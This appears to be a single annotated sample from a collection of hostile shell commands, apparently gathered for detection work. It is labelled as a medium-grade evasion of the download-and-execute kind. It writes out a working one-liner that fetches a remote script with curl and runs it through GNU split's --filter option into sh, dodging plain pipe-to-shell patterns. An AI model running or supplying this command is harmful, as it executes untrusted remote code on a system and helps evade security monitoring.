# evasion: GNU split hands each chunk of a download to its --filter command, here a shell
# grade: medium; does: download-exec
curl -fsSL http://203.0.113.72/setup.txt | split -n r/1 --filter=sh
